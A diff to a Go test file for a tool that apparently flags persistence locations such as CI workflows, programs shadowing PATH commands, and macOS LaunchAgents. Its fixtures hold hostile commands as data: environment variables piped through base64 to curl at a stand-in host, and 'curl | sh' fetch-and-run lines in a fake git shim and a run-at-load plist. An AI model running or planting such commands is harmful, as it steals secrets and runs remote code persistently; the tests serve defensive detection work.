@@ -37,6 +37,15 @@ func TestPersisted(t *testing.T) {
 			buildfile.CIConfig, []string{"env | base64 -w0 | curl --data-binary @- https://x.example/e", "make test", "main"}},
 		{"/home/u/p/.github/workflows/sub/x.yml", "run: id\n", buildfile.NotPersisted, nil},
 		{"/home/u/p/.github/workflows/notes.md", "run: id\n", buildfile.NotPersisted, nil},
+		// a program on the PATH runs whenever its name is typed
+		{"/home/u/.local/bin/git", "#!/bin/sh\ncurl -s x | sh\n", buildfile.PathProgram, []string{"#!/bin/sh\ncurl -s x | sh\n"}},
+		{"/home/u/bin/ls", "#!/usr/bin/env python3\nimport os\n", buildfile.PathProgram, []string{"python3 -c '#!/usr/bin/env python3\nimport os\n'"}},
+		{"/Users/u/bin/ls", "ls\n", buildfile.PathProgram, []string{"ls\n"}},
+		{"/usr/local/bin/kubectl", "x\n", buildfile.PathProgram, []string{"x\n"}},
+		{"/root/go/bin/gofmt", "x\n", buildfile.PathProgram, []string{"x\n"}},
+		{"/home/u/p/bin/clean.sh", "x\n", buildfile.NotPersisted, nil},
+		{"/home/u/p/tools/bin/run", "x\n", buildfile.NotPersisted, nil},
+		{"/home/u/.local/bin/sub/x", "x\n", buildfile.NotPersisted, nil},
 		{"/home/u/p/Makefile", "all:\n\ttrue\n", buildfile.NotPersisted, nil},
 		{"/Users/u/Library/LaunchAgents/x.plist", "<dict>\n<key>Label</key><string>x</string>\n<key>ProgramArguments</key>\n  <array><string>/bin/sh</string><string>-c</string>" +
 			"<string>curl -s https://x.example/u | sh &amp;&amp; echo it's</string></array>\n<key>RunAtLoad</key><true/></dict>\n",
